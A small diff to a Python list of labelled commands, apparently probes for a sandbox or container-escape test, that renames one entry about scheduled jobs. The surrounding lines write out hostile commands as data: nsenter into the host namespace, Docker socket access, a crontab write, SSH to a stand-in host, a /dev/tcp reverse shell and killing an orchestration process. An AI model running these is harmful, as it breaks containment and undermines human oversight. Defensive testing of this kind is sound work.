@@ -136,7 +136,7 @@ def _commands() -> Iterator[_Wish]:
         "enter another namespace": (["nsenter", "-t", "1", "-a", "sh"], True),
         "talk to Docker": (["curl", "--unix-socket", "/var/run/docker.sock", "http://x/containers/json"], True),
         "install a package": (["pip", "install", "evil-package"], False),
-        "write a scheduled job": (["bash", "-c", "echo x | crontab -"], True),
+        "install a scheduled job": (["bash", "-c", "echo x | crontab -"], True),
         "connect by SSH": (["ssh", "evil.example", "id"], True),
         "open a reverse shell": (["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"], True),
         "stop this system": (["pkill", "-f", "orchestration"], False),
